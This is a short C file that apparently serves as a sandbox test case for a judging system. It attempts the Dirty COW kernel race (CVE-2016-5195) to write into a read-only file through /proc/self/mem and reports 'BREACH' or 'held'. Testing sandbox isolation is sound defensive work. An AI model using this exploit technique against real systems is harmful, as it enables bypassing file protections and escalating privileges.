/* attack: writes to a private mapping of a file that it may only read, against its being dropped
 * expect: AC
 * exploit: CVE-2016-5195, Dirty COW
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>
int main(void) {
    int fd = open("/box/main.c", O_RDONLY), mem = open("/proc/self/mem", O_RDWR);
    char *map = mmap(0, 4096, PROT_READ, MAP_PRIVATE, fd, 0), c = 0;
    pid_t pid = fork();
    for (int i = 0; i < 20000; i++) {
        if (pid == 0) madvise(map, 4096, MADV_DONTNEED);
        else if (pwrite(mem, "#", 1, (off_t)(unsigned long)map) < 0) break;
    }
    if (pid == 0) _exit(0);
    if (pread(fd, &c, 1, 0) != 1) return 1;
    puts(c == '#' ? "BREACH wrote to a read-only file" : "held");
}
